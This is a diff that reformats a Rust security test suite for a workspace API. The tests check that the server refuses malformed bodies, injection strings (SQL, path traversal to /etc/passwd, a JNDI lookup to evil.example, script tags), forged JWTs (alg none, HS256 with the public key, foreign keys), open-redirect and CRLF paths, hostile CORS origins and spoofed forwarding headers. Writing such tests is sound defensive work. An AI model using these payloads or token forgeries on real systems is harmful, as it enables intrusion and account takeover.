@@ -49,22 +49,51 @@ impl<'w> Scene<'w> {
         let owner = world.owner("owner").await;
         let member = world.joins(&owner, "member", "member").await;
         let invitation = owner.invite("guest@example.com", "member").await.expect(201);
-        Self { owner, member, invitation }
+        Self {
+            owner,
+            member,
+            invitation,
+        }
     }
 
     /// The id that a path is about, which exists.
     fn id(&self, path: &str) -> String {
-        if path.contains("{user_id}") { self.member.id.clone() } else { self.invitation.id() }
+        if path.contains("{user_id}") {
+            self.member.id.clone()
+        } else {
+            self.invitation.id()
+        }
     }
 }
 
 /// Bodies that no route takes, whatever its fields are.
 fn hostile_bodies(fields: &[String]) -> Vec<(String, Vec<u8>)> {
     let texts = [
-        "", "  \r\n", "x", "{", "[]", "null", "1", "\"text\"", "{}{}", "{\"a\":1,}", "{'a':1}", "NaN", "\u{feff}{}", "\0",
-        "{\"a\":\"b\0\"}", "{\"a\":\"\\ud800\"}", "{\"a\":1e999}", "{\"a\":-1e999}", "{\"a\":.1}", "{\"a\":01}",
+        "",
+        "  \r\n",
+        "x",
+        "{",
+        "[]",
+        "null",
+        "1",
+        "\"text\"",
+        "{}{}",
+        "{\"a\":1,}",
+        "{'a':1}",
+        "NaN",
+        "\u{feff}{}",
+        "\0",
+        "{\"a\":\"b\0\"}",
+        "{\"a\":\"\\ud800\"}",
+        "{\"a\":1e999}",
+        "{\"a\":-1e999}",
+        "{\"a\":.1}",
+        "{\"a\":01}",
     ];
-    let mut bodies: Vec<(String, Vec<u8>)> = texts.iter().map(|text| (format!("{text:?}"), text.as_bytes().into())).collect();
+    let mut bodies: Vec<(String, Vec<u8>)> = texts
+        .iter()
+        .map(|text| (format!("{text:?}"), text.as_bytes().into()))
+        .collect();
     bodies.push(("no UTF-8".to_owned(), b"\xff\xfe{}".to_vec()));
     bodies.push(("no UTF-8 inside".to_owned(), b"{\"a\":\"\xff\"}".to_vec()));
     bodies.push(("60,000 lists".to_owned(), "[".repeat(60_000).into_bytes()));
@@ -73,8 +102,14 @@ fn hostile_bodies(fields: &[String]) -> Vec<(String, Vec<u8>)> {
     let huge = format!("1{}", "0".repeat(300));
     for wrong in ["1", "-1", "1.5", "true", "[\"a\"]", "{\"a\":1}", huge.as_str()] {
         let all: Vec<String> = fields.iter().map(|field| format!("{field:?}:{wrong}")).collect();
-        bodies.push((format!("every field {wrong:.20}"), format!("{{{}}}", all.join(",")).into_bytes()));
-        bodies.push((format!("every field {wrong:.20}, twice"), format!("{{{},{}}}", all.join(","), all.join(",")).into_bytes()));
+        bodies.push((
+            format!("every field {wrong:.20}"),
+            format!("{{{}}}", all.join(",")).into_bytes(),
+        ));
+        bodies.push((
+            format!("every field {wrong:.20}, twice"),
+            format!("{{{},{}}}", all.join(","), all.join(",")).into_bytes(),
+        ));
     }
     bodies
 }
@@ -88,12 +123,20 @@ async fn a_body_that_is_none_is_told_so_and_changes_nothing() {
         let Some(fields) = &operation.fields else { continue };
         assert!(!fields.is_empty(), "{} has no fields", operation.name());
         let path = operation.about(&scene.id(&operation.path));
-        let caller = if operation.open { scene.owner.signed_out() } else { scene.owner.clone() };
+        let caller = if operation.open {
+            scene.owner.signed_out()
+        } else {
+            scene.owner.clone()
+        };
         for (name, body) in hostile_bodies(fields) {
             let answer = caller.raw(&operation.method, &path, body).await;
             assert_eq!(answer.status, 422, "{} {name}: {}", operation.name(), answer.text);
             let faults = proper(answer).faults();
-            assert!(faults.iter().all(|fault| fault.starts_with("body")), "{} {name}: {faults:?}", operation.name());
+            assert!(
+                faults.iter().all(|fault| fault.starts_with("body")),
+                "{} {name}: {faults:?}",
+                operation.name()
+            );
         }
     }
     assert_eq!(read_but_limits(&world).await, before);
@@ -105,18 +148,43 @@ async fn a_strange_text_is_taken_for_what_it_is() {
     let scene = Scene::new(&world).await;
     let before = read_but_limits(&world).await;
     let texts = [
-        "", " ", "\0", "\u{202e}", "\u{1f4a5}", "' OR 1=1 --", "USER#1", "../../etc/passwd", "${jndi:ldap://evil.example}", "%00",
-        "<script>alert(1)</script>", "a@b@c", "=1+1", "{{7*7}}",
+        "",
+        " ",
+        "\0",
+        "\u{202e}",
+        "\u{1f4a5}",
+        "' OR 1=1 --",
+        "USER#1",
+        "../../etc/passwd",
+        "${jndi:ldap://evil.example}",
+        "%00",
+        "<script>alert(1)</script>",
+        "a@b@c",
+        "=1+1",
+        "{{7*7}}",
     ];
     let long = "a".repeat(20_000);
     for operation in operations() {
         let Some(fields) = &operation.fields else { continue };
         let path = operation.about(&scene.id(&operation.path));
-        let caller = if operation.open { scene.owner.signed_out() } else { scene.owner.clone() };
+        let caller = if operation.open {
+            scene.owner.signed_out()
+        } else {
+            scene.owner.clone()
+        };
         for text in texts.into_iter().chain([long.as_str()]) {
-            let body: Value = fields.iter().map(|field| (field.clone(), json!(text))).collect::<serde_json::Map<_, _>>().into();
+            let body: Value = fields
+                .iter()
+                .map(|field| (field.clone(), json!(text)))
+                .collect::<serde_json::Map<_, _>>()
+                .into();
             let answer = proper(caller.call(&operation.method, &path, Some(body)).await);
-            assert!(answer.status.is_client_error(), "{} {text:?}: {}", operation.name(), answer.text);
+            assert!(
+                answer.status.is_client_error(),
+                "{} {text:?}: {}",
+                operation.name(),
+                answer.text
+            );
         }
     }
     assert_eq!(read_but_limits(&world).await, before);
@@ -130,7 +198,9 @@ async fn a_body_beyond_the_limit_is_refused_before_all_else() {
     for operation in operations() {
         for caller in [scene.owner.clone(), scene.owner.signed_out()] {
             let path = operation.about(&scene.id(&operation.path));
-            let answer = caller.raw(&operation.method, &path, vec![b' '; BODY_BYTES_MAX + 1]).await;
+            let answer = caller
+                .raw(&operation.method, &path, vec![b' '; BODY_BYTES_MAX + 1])
+                .await;
             proper(answer).refused(413, "PAYLOAD_TOO_LARGE");
         }
     }
@@ -146,7 +216,11 @@ async fn a_body_where_none_is_needed_is_not_looked_at() {
             if operation.method == "GET" {
                 proper(scene.owner.raw("GET", &operation.path, body).await.expect(200));
             } else {
-                let answer = scene.owner.signed_out().raw(&operation.method, &operation.about(UNKNOWN), body).await;
+                let answer = scene
+                    .owner
+                    .signed_out()
+                    .raw(&operation.method, &operation.about(UNKNOWN), body)
+                    .await;
                 proper(answer).refused(401, "TOKEN_MISSING");
             }
         }
@@ -157,11 +231,18 @@ async fn a_body_where_none_is_needed_is_not_looked_at() {
 fn opened(token: &str) -> (Value, Value) {
     let mut parts = token.split('.').map(|part| URL_SAFE_NO_PAD.decode(part).unwrap());
     let (header, claims) = (parts.next().unwrap(), parts.next().unwrap());
-    (serde_json::from_slice(&header).unwrap(), serde_json::from_slice(&claims).unwrap())
+    (
+        serde_json::from_slice(&header).unwrap(),
+        serde_json::from_slice(&claims).unwrap(),
+    )
 }
 
 fn unsigned(header: &Value, claims: &Value) -> String {
-    format!("{}.{}", URL_SAFE_NO_PAD.encode(header.to_string()), URL_SAFE_NO_PAD.encode(claims.to_string()))
+    format!(
+        "{}.{}",
+        URL_SAFE_NO_PAD.encode(header.to_string()),
+        URL_SAFE_NO_PAD.encode(claims.to_string())
+    )
 }
 
 fn signed(header: &Value, claims: &Value, key: &EncodingKey, algorithm: Algorithm) -> String {
@@ -173,7 +254,9 @@ fn signed(header: &Value, claims: &Value, key: &EncodingKey, algorithm: Algorith
 /// `value` with some members replaced.
 fn with(value: &Value, changes: Value) -> Value {
     let mut value = value.clone();
-    let Value::Object(changes) = changes else { panic!("changes are an object") };
+    let Value::Object(changes) = changes else {
+        panic!("changes are an object")
+    };
     for (name, change) in changes {
         if change.is_null() {
             value.as_object_mut().unwrap().remove(&name);
@@ -185,7 +268,9 @@ fn with(value: &Value, changes: Value) -> Value {
 }
 
 fn signing_key(world: &World) -> SigningKey {
-    let Some(SecretSource::Value(seed)) = &world.app.config.signing_secret else { panic!("a world has a seed") };
+    let Some(SecretSource::Value(seed)) = &world.app.config.signing_secret else {
+        panic!("a world has a seed")
+    };
     SigningKey::from_seed(seed).unwrap()
 }
 
@@ -220,7 +305,10 @@ async fn no_token_but_ours_opens_anything() {
         claims_change(json!({"unknown": 1})),
     ];
     for token in valid {
-        let ann = Person { access: Some(token.clone()), ..ann.clone() };
+        let ann = Person {
+            access: Some(token.clone()),
+            ..ann.clone()
+        };
         ann.get("/auth/me").await.expect(200);
     }
 
@@ -235,21 +323,61 @@ async fn no_token_but_ours_opens_anything() {
         ("8 KB of claims", claims_change(json!({"padding": "a".repeat(8192)}))),
         ("no signature", message.to_owned()),
         ("an empty signature", format!("{message}.")),
-        ("a flipped signature", format!("{message}.{}", URL_SAFE_NO_PAD.encode(flipped))),
-        ("another claim", format!("{head}.{}.{signature}", URL_SAFE_NO_PAD.encode(with(&claims, json!({"uep": 1})).to_string()))),
+        (
+            "a flipped signature",
+            format!("{message}.{}", URL_SAFE_NO_PAD.encode(flipped)),
+        ),
+        (
+            "another claim",
+            format!(
+                "{head}.{}.{signature}",
+                URL_SAFE_NO_PAD.encode(with(&claims, json!({"uep": 1})).to_string())
+            ),
+        ),
         ("padding", format!("{message}.{signature}==")),
         ("alg none", unsigned(&none, &claims) + "."),
         ("alg none, signed", format!("{}.{signature}", unsigned(&none, &claims))),
-        ("alg NONE", unsigned(&with(&header, json!({"alg": "NONE"})), &claims) + "."),
-        ("no alg", format!("{}.{signature}", unsigned(&with(&header, json!({"alg": null})), &claims))),
-        ("HS256 with the public key", hs256(&URL_SAFE_NO_PAD.decode(&public).unwrap())),
+        (
+            "alg NONE",
+            unsigned(&with(&header, json!({"alg": "NONE"})), &claims) + ".",
+        ),
+        (
+            "no alg",
+            format!(
+                "{}.{signature}",
+                unsigned(&with(&header, json!({"alg": null})), &claims)
+            ),
+        ),
+        (
+            "HS256 with the public key",
+            hs256(&URL_SAFE_NO_PAD.decode(&public).unwrap()),
+        ),
         ("HS256 with the public key's text", hs256(public.as_bytes())),
         ("HS256 with the JWK set", hs256(jwks.text.as_bytes())),
         ("HS256 with nothing", hs256(b"")),
         ("alg RS256", header_change(json!({"alg": "RS256"}))),
-        ("another key", signed(&header, &claims, other_key.encoding_key(), Algorithm::EdDSA)),
-        ("another key and its kid", signed(&with(&header, json!({"kid": other_key.kid()})), &claims, other_key.encoding_key(), Algorithm::EdDSA)),
-        ("another key, sent along", signed(&with(&header, json!({"jwk": {"kty": "OKP"}})), &claims, other_key.encoding_key(), Algorithm::EdDSA)),
+        (
+            "another key",
+            signed(&header, &claims, other_key.encoding_key(), Algorithm::EdDSA),
+        ),
+        (
+            "another key and its kid",
+            signed(
+                &with(&header, json!({"kid": other_key.kid()})),
+                &claims,
+                other_key.encoding_key(),
+                Algorithm::EdDSA,
+            ),
+        ),
+        (
+            "another key, sent along",
+            signed(
+                &with(&header, json!({"jwk": {"kty": "OKP"}})),
+                &claims,
+                other_key.encoding_key(),
+                Algorithm::EdDSA,
+            ),
+        ),
         ("unknown kid", header_change(json!({"kid": "unknown"}))),
         ("no kid", header_change(json!({"kid": null}))),
         ("a kid that is a path", header_change(json!({"kid": "../../dev/null"}))),
@@ -274,7 +402,10 @@ async fn no_token_but_ours_opens_anything() {
         ("a refresh token", ann.refresh.clone()),
     ];
     for (name, token) in invalid {
-        let ann = Person { access: Some(token), ..ann.clone() };
+        let ann = Person {
+            access: Some(token),
+            ..ann.clone()
+        };
         for path in ["/auth/me", "/workspaces/"] {
             let answer = ann.get(path).await;
             assert_eq!(answer.status, 401, "{name}: {}", answer.text);
@@ -287,20 +418,32 @@ async fn no_token_but_ours_opens_anything() {
         ("another epoch", claims_change(json!({"uep": 1}))),
         ("another epoch of the workspace", claims_change(json!({"wep": 1}))),
     ] {
-        let ann = Person { access: Some(token), ..ann.clone() };
+        let ann = Person {
+            access: Some(token),
+            ..ann.clone()
+        };
         let answer = ann.get("/auth/me").await;
         assert_eq!(answer.status, 401, "{name}: {}", answer.text);
         proper(answer).refused(401, "TOKEN_REVOKED");
     }
-    for (token, code) in [(token.as_str(), "TOKEN_INVALID"), ("", "TOKEN_INVALID"), (&"A".repeat(9000), "TOKEN_INVALID")] {
-        let answer = ann.signed_out().post("/auth/refresh", json!({"refresh_token": token})).await;
+    for (token, code) in [
+        (token.as_str(), "TOKEN_INVALID"),
+        ("", "TOKEN_INVALID"),
+        (&"A".repeat(9000), "TOKEN_INVALID"),
+    ] {
+        let answer = ann
+            .signed_out()
+            .post("/auth/refresh", json!({"refresh_token": token}))
+            .await;
         proper(answer).refused(401, code);
     }
     ann.workspace().await.expect(200);
 }
 
 async fn send(world: &World, request: Builder) -> Answer {
-    world.send(request.body(Body::empty()).unwrap(), [10, 9, 9, 9].into()).await
+    world
+        .send(request.body(Body::empty()).unwrap(), [10, 9, 9, 9].into())
+        .await
 }
 
 fn get(path: &str) -> Builder {
@@ -315,13 +458,28 @@ async fn only_one_bearer_header_authenticates() {
     let bearer = format!("Bearer {token}");
     let me = "/api/v1/auth/me";
     for scheme in ["Bearer", "bearer", "BEARER"] {
-        send(&world, get(me).header("authorization", format!("{scheme} {token}"))).await.expect(200);
+        send(&world, get(me).header("authorization", format!("{scheme} {token}")))
+            .await
+            .expect(200);
     }
-    let twice = get(me).header("authorization", &bearer).header("authorization", &bearer);
+    let twice = get(me)
+        .header("authorization", &bearer)
+        .header("authorization", &bearer);
     proper(send(&world, twice).await).refused(401, "TOKEN_INVALID");
-    let beside = get(me).header("authorization", &bearer).header("authorization", "Basic YTpi");
+    let beside = get(me)
+        .header("authorization", &bearer)
+        .header("authorization", "Basic YTpi");
     proper(send(&world, beside).await).refused(401, "TOKEN_INVALID");
-    for header in ["Basic YTpi", "Bearer", "Bearer ", &token, "Token x", "", &format!("Bearer {token}, Bearer {token}"), &format!("Bearer {token} x")] {
+    for header in [
+        "Basic YTpi",
+        "Bearer",
+        "Bearer ",
+        &token,
+        "Token x",
+        "",
+        &format!("Bearer {token}, Bearer {token}"),
+        &format!("Bearer {token} x"),
+    ] {
         let answer = proper(send(&world, get(me).header("authorization", header)).await);
         answer.refused(401, "TOKEN_INVALID");
     }
@@ -345,9 +503,34 @@ async fn a_query_that_makes_no_sense_is_told_so() {
     let scene = Scene::new(&world).await;
     let far = "9".repeat(40);
     let long = "A".repeat(6000);
-    let numbers = ["", "-1", "abc", "1.5", "1e3", "%00", "%ff", "0x10", "\u{0661}", far.as_str()];
-    let numbers = numbers.map(|number| if number.is_ascii() { number.to_owned() } else { "%D9%A1".to_owned() });
-    let cursors = ["", "x", "%00", "%ff", "..%2F..", "AAAAAAAAAAAAAAAAAAAAAAAA", long.as_str()];
+    let numbers = [
+        "",
+        "-1",
+        "abc",
+        "1.5",
+        "1e3",
+        "%00",
+        "%ff",
+        "0x10",
+        "\u{0661}",
+        far.as_str(),
+    ];
+    let numbers = numbers.map(|number| {
+        if number.is_ascii() {
+            number.to_owned()
+        } else {
+            "%D9%A1".to_owned()
+        }
+    });
+    let cursors = [
+        "",
+        "x",
+        "%00",
+        "%ff",
+        "..%2F..",
+        "AAAAAAAAAAAAAAAAAAAAAAAA",
+        long.as_str(),
+    ];
     for (path, too_many, names) in [
         ("/workspaces/members", "501", &["limit"] as &[&str]),
         ("/workspaces/invitations", "101", &["limit", "offset"]),
@@ -381,9 +564,21 @@ async fn an_unknown_path_is_404_and_another_method_405() {
     let world = World::new().await;
     let scene = Scene::new(&world).await;
     let unknown = [
-        "/", "/api", "/api/v1", "/api/v1/workspace", "/api/v1/workspaces/members/a/b", "/api/v2/workspaces", "/API/V1/WORKSPACES",
-        "/api/v1/workspaces/..%2Fmembers", "/api/v1/auth", "/docs", "/_local/mailbox", "/favicon.ico", "/api/v1//workspaces",
-        "/%2e%2e/%2e%2e/etc/passwd", "/api/v1/workspaces%00",
+        "/",
+        "/api",
+        "/api/v1",
+        "/api/v1/workspace",
+        "/api/v1/workspaces/members/a/b",
+        "/api/v2/workspaces",
+        "/API/V1/WORKSPACES",
+        "/api/v1/workspaces/..%2Fmembers",
+        "/api/v1/auth",
+        "/docs",
+        "/_local/mailbox",
+        "/favicon.ico",
+        "/api/v1//workspaces",
+        "/%2e%2e/%2e%2e/etc/passwd",
+        "/api/v1/workspaces%00",
     ];
     for path in unknown {
         let answer = send(&world, get(path)).await;
@@ -394,7 +589,10 @@ async fn an_unknown_path_is_404_and_another_method_405() {
     let mut paths: Vec<&str> = operations.iter().map(|operation| operation.path.as_str()).collect();
     paths.dedup();
     for path in paths {
-        let methods = operations.iter().filter(|operation| operation.path == path).map(|operation| operation.method.as_str());
+        let methods = operations
+            .iter()
+            .filter(|operation| operation.path == path)
+            .map(|operation| operation.method.as_str());
         let methods: Vec<&str> = methods.collect();
         for method in ["GET", "PUT", "POST", "PATCH", "DELETE", "OPTIONS", "TRACE", "PURGE"] {
             if methods.contains(&method) {
@@ -422,16 +620,39 @@ async fn an_id_that_is_none_is_an_unknown_one() {
     let scene = Scene::new(&world).await;
     let id = scene.invitation.id();
     let compact = id.replace('-', "");
-    for id in ["1", "-", "%00", "%ff", "%2F", "..", "null", "USER%231", "{id}", &compact, &format!("{id}x"), &format!("%7B{id}%7D"), &"a".repeat(4000)] {
+    for id in [
+        "1",
+        "-",
+        "%00",
+        "%ff",
+        "%2F",
+        "..",
+        "null",
+        "USER%231",
+        "{id}",
+        &compact,
+        &format!("{id}x"),
+        &format!("%7B{id}%7D"),
+        &"a".repeat(4000),
+    ] {
         let id = id.replace('{', "%7B").replace('}', "%7D");
         for (method, path, code) in [
             ("PATCH", format!("/workspaces/members/{id}"), "MEMBER_NOT_FOUND"),
             ("DELETE", format!("/workspaces/members/{id}"), "MEMBER_NOT_FOUND"),
             ("PATCH", format!("/workspaces/invitations/{id}"), "INVITATION_NOT_FOUND"),
-            ("DELETE", format!("/workspaces/invitations/{id}"), "INVITATION_NOT_FOUND"),
-            ("POST", format!("/workspaces/invitations/{id}/resend"), "INVITATION_NOT_FOUND"),
+            (
+                "DELETE",
+                format!("/workspaces/invitations/{id}"),
+                "INVITATION_NOT_FOUND",
+            ),
+            (
+                "POST",
+                format!("/workspaces/invitations/{id}/resend"),
+                "INVITATION_NOT_FOUND",
+            ),
         ] {
-            let body = json!({"role": "member", "expires_at": world.clock.now().plus(Duration::from_secs(3600)).to_string()});
+            let body =
+                json!({"role": "member", "expires_at": world.clock.now().plus(Duration::from_secs(3600)).to_string()});
             let answer = proper(scene.owner.call(method, &path, Some(body)).await);
             assert_eq!(answer.status, 404, "{method} {path:.80}: {}", answer.text);
             answer.refused(404, code);
@@ -459,13 +680,25 @@ async fn a_trailing_slash_leads_to_the_path_without_it_and_never_elsewhere() {
     }
     proper(owner.get("/api/v1/workspaces/").await.expect(200));
     let elsewhere = [
-        "//evil.example/", "///evil.example/", "//evil.example/%2e%2e/", "/%5Cevil.example/", "/%2F/evil.example/", "//evil.example//",
-        "/%09/evil.example/", "/@evil.example/", "/.evil.example/", "//evil.example/?a=b", "/evil.example/%0d%0aLocation:x/",
+        "//evil.example/",
+        "///evil.example/",
+        "//evil.example/%2e%2e/",
+        "/%5Cevil.example/",
+        "/%2F/evil.example/",
+        "//evil.example//",
+        "/%09/evil.example/",
+        "/@evil.example/",
+        "/.evil.example/",
+        "//evil.example/?a=b",
+        "/evil.example/%0d%0aLocation:x/",
     ];
     for path in elsewhere {
         let answer = proper(send(&world, get(path).header("host", "evil.example")).await);
         if let Some(location) = answer.header("location") {
-            assert!(location.starts_with('/') && !location.starts_with("//") && !location.contains('\\'), "{path} leads to {location}");
+            assert!(
+                location.starts_with('/') && !location.starts_with("//") && !location.contains('\\'),
+                "{path} leads to {location}"
+            );
         } else {
             assert_eq!(answer.status, 404, "{path}");
         }
@@ -485,7 +718,10 @@ async fn checks_come_in_the_order_of_the_contract() {
     let (unknown, garbage) = (format!("/workspaces/members/{UNKNOWN}"), "{");
     let large = vec![b'{'; BODY_BYTES_MAX + 1];
 
-    let forged = Person { access: Some("a.b.c".to_owned()), ..owner.clone() };
+    let forged = Person {
+        access: Some("a.b.c".to_owned()),
+        ..owner.clone()
+    };
     proper(nobody.raw("PATCH", &unknown, large.clone()).await).refused(413, "PAYLOAD_TOO_LARGE");
     proper(forged.raw("PATCH", &unknown, large).await).refused(413, "PAYLOAD_TOO_LARGE");
     proper(nobody.raw("PATCH", &unknown, garbage).await).refused(401, "TOKEN_MISSING");
@@ -523,7 +759,12 @@ async fn checks_come_in_the_order_of_the_contract() {
     proper(manager.resend(UNKNOWN).await).refused(404, "INVITATION_NOT_FOUND");
     let of_owner = owner.invite("guest@example.com", "owner").await.expect(201).id();
     proper(manager.resend(&of_owner).await).refused(403, "FORBIDDEN");
-    proper(manager.raw("PATCH", &format!("{invitations}/{of_owner}"), garbage).await).refused(422, "VALIDATION_ERROR");
+    proper(
+        manager
+            .raw("PATCH", &format!("{invitations}/{of_owner}"), garbage)
+            .await,
+    )
+    .refused(422, "VALIDATION_ERROR");
     proper(manager.extend(UNKNOWN, "2000-01-01T00:00:00Z").await).refused(404, "INVITATION_NOT_FOUND");
     proper(manager.extend(&of_owner, "2000-01-01T00:00:00Z").await).refused(403, "FORBIDDEN");
     proper(owner.extend(&of_owner, "2000-01-01T00:00:00Z").await).refused(400, "INVALID_EXPIRY");
@@ -541,8 +782,18 @@ async fn a_browser_elsewhere_reads_nothing_unless_its_origin_is_named() {
             .header("access-control-request-method", "PATCH")
             .header("access-control-request-headers", "authorization,content-type")
     };
-    let cors = |answer: &Answer| answer.headers.keys().any(|name| name.as_str().starts_with("access-control-"));
-    let read = send(&world, ann.request("GET", "/workspaces/").header("origin", "https://app.example")).await;
+    let cors = |answer: &Answer| {
+        answer
+            .headers
+            .keys()
+            .any(|name| name.as_str().starts_with("access-control-"))
+    };
+    let read = send(
+        &world,
+        ann.request("GET", "/workspaces/")
+            .header("origin", "https://app.example"),
+    )
+    .await;
     assert!(!cors(&read), "{:?}", read.headers);
     let answer = send(&world, preflight("https://app.example")).await;
     assert!(!cors(&answer), "{:?}", answer.headers);
@@ -551,26 +802,58 @@ async fn a_browser_elsewhere_reads_nothing_unless_its_origin_is_named() {
     let world = World::with(|config| config.allowed_origins = vec!["https://app.example".to_owned()]).await;
     let ann = world.owner("ann").await;
     for person in [ann.clone(), ann.signed_out()] {
-        let answer = proper(send(&world, person.request("GET", "/workspaces/").header("origin", "https://app.example")).await);
-        assert_eq!(answer.header("access-control-allow-origin"), Some("https://app.example"));
+        let answer = proper(
+            send(
+                &world,
+                person
+                    .request("GET", "/workspaces/")
+                    .header("origin", "https://app.example"),
+            )
+            .await,
+        );
+        assert_eq!(
+            answer.header("access-control-allow-origin"),
+            Some("https://app.example")
+        );
         assert_eq!(answer.header("access-control-allow-credentials"), None);
-        let mut exposed: Vec<String> =
-            answer.header("access-control-expose-headers").unwrap().split(',').map(|name| name.trim().to_lowercase()).collect();
+        let mut exposed: Vec<String> = answer
+            .header("access-control-expose-headers")
+            .unwrap()
+            .split(',')
+            .map(|name| name.trim().to_lowercase())
+            .collect();
         exposed.sort();
-        assert_eq!(exposed, ["etag", "ratelimit", "ratelimit-policy", "retry-after", "x-request-id"]);
+        assert_eq!(
+            exposed,
+            ["etag", "ratelimit", "ratelimit-policy", "retry-after", "x-request-id"]
+        );
         assert!(answer.header("vary").unwrap().to_lowercase().contains("origin"));
     }
     let answer = proper(send(&world, preflight("https://app.example")).await);
     assert!(answer.status.is_success(), "{}", answer.status);
-    assert_eq!(answer.header("access-control-allow-origin"), Some("https://app.example"));
+    assert_eq!(
+        answer.header("access-control-allow-origin"),
+        Some("https://app.example")
+    );
     let methods = answer.header("access-control-allow-methods").unwrap();
     for method in ["GET", "POST", "PUT", "PATCH", "DELETE"] {
         assert!(methods.contains(method), "{methods}");
     }
     let headers = answer.header("access-control-allow-headers").unwrap().to_lowercase();
-    assert!(headers.contains("authorization") && headers.contains("content-type"), "{headers}");
-    for origin in ["https://evil.example", "https://app.example.evil.example", "http://app.example", "https://app.example:444", "null"] {
-        let read = send(&world, ann.request("GET", "/workspaces/").header("origin", origin)).await.expect(200);
+    assert!(
+        headers.contains("authorization") && headers.contains("content-type"),
+        "{headers}"
+    );
+    for origin in [
+        "https://evil.example",
+        "https://app.example.evil.example",
+        "http://app.example",
+        "https://app.example:444",
+        "null",
+    ] {
+        let read = send(&world, ann.request("GET", "/workspaces/").header("origin", origin))
+            .await
+            .expect(200);
         assert_eq!(read.header("access-control-allow-origin"), None, "{origin}");
         let answer = send(&world, preflight(origin)).await;
         assert_eq!(answer.header("access-control-allow-origin"), None, "{origin}");
@@ -586,21 +869,31 @@ async fn what_a_client_says_of_itself_is_not_believed() {
         request = request.header(name, "evil.example");
     }
     let body = json!({"email": "guest@example.com"}).to_string();
-    let issued = world.send(request.body(Body::from(body)).unwrap(), ann.address).await.expect(201);
+    let issued = world
+        .send(request.body(Body::from(body)).unwrap(), ann.address)
+        .await
+        .expect(201);
     let link = issued.body["invite_link"].as_str().unwrap();
     assert!(link.starts_with("https://api.example.com/invite#invite_id="), "{link}");
     assert!(!issued.text.contains("evil"));
 
-    let request = ann.request("GET", "/workspaces/").header("x-request-id", "mine").header("x-http-method-override", "DELETE");
+    let request = ann
+        .request("GET", "/workspaces/")
+        .header("x-request-id", "mine")
+        .header("x-http-method-override", "DELETE");
     let answer = proper(send(&world, request).await.expect(200));
     assert_ne!(answer.header("x-request-id"), Some("mine"));
 
     let guesser = world.stranger("guesser");
     for number in 0..61 {
         let request = guesser.request("POST", "/auth/invitation");
-        let request = request.header("x-forwarded-for", format!("192.0.2.{number}")).header("x-real-ip", format!("192.0.2.{number}"));
+        let request = request
+            .header("x-forwarded-for", format!("192.0.2.{number}"))
+            .header("x-real-ip", format!("192.0.2.{number}"));
         let body = json!({"invite_id": UNKNOWN, "token": "x"}).to_string();
-        let answer = world.send(request.body(Body::from(body)).unwrap(), guesser.address).await;
+        let answer = world
+            .send(request.body(Body::from(body)).unwrap(), guesser.address)
+            .await;
         if number < 60 {
             proper(answer).refused(404, "INVITATION_NOT_FOUND");
         } else {
@@ -626,7 +919,11 @@ async fn every_answer_has_the_headers_that_it_must_have() {
         scene.owner.put("/workspaces/", json!({"name": "Name"})).await,
         scene.owner.invite("another@example.com", "member").await,
         scene.owner.change_role(&scene.member.id, "manager").await,
-        scene.owner.signed_out().post("/auth/login", json!({"email": scene.owner.email, "password": PASSWORD})).await,
+        scene
+            .owner
+            .signed_out()
+            .post("/auth/login", json!({"email": scene.owner.email, "password": PASSWORD}))
+            .await,
         scene.owner.revoke_all().await,
     ];
     for answer in answers {
